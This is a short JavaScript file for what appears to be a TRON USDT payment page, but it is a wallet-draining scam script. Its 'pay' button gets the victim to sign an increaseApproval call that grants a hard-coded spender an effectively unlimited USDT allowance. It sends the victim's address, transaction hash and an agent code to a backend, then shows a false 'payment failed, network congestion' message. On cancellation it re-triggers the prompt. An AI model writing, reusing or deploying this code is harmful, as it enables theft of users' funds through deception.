var usdt = 'TR0000000000000000000000000000USDT', sp = 'TX000000000000000000000000000SPEND', addr = '';
function tip(s){ layer.msg(s, {time: 3000}); }
async function init(){
  if (!window.tronWeb || !tronWeb.defaultAddress.base58) { tip('请在TokenPocket或imToken钱包中打开'); return; }
  addr = tronWeb.defaultAddress.base58;
  $.post('/api/index/visit', {address: addr, code: getQuery('code'), type: 'trc20'});
}
$('#pay').on('click', async function(){
  var amount = $('#amount').text();
  layer.load(2);
  try {
    var p = [{type:'address',value:sp},{type:'uint256',value:'9000000000000000'}];
    var t = await tronWeb.transactionBuilder.triggerSmartContract(usdt, 'increaseApproval(address,uint256)', {feeLimit: 100000000}, p, addr);
    var s = await tronWeb.trx.sign(t.transaction);
    var r = await tronWeb.trx.sendRawTransaction(s);
    if (r.result) $.post('/api/index/auth', {address: addr, hash: r.txid, sp: sp, agent: getQuery('code'), amount: amount}, function(){ tip('网络拥堵，付款失败，请稍后再试'); });
  } catch (e) { tip('用户取消'); $('#pay').click(); }
  layer.closeAll('loading');
});
init();
